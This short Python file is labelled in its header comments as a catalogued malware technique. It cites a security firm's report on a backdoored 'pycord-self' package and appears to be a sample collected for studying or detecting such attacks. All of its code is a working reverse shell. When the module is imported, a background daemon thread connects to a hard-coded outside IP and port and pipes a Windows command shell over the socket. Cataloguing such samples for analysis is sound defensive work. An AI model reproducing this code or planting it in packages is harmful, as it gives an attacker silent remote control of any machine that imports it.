# technique: reverse shell started in a daemon thread at import
# class: reverse-shell
# source: Socket, "pycord-self" (2025): backdoor socket opened on import
# declares: network, subprocess
import socket
import subprocess
import threading


def _bd():
    s = socket.socket()
    s.connect(("94.131.98.14", 6969))
    p = subprocess.Popen(["cmd.exe"], stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno())
    p.wait()


threading.Thread(target=_bd, daemon=True).start()
